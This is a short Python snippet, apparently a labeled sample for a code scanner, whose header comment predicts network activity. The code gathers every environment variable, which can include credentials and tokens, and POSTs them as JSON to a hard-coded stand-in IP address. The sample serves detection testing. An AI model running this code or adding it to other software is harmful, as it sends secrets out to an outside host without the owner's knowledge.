# expect: network; posts the whole environment as JSON to a remote URL with urllib.request
import json
import os
import urllib.request

endpoint = "http://203.0.113.9:8080/collect"
req = urllib.request.Request(
    endpoint,
    data=json.dumps(dict(os.environ)).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
urllib.request.urlopen(req, timeout=5).read()
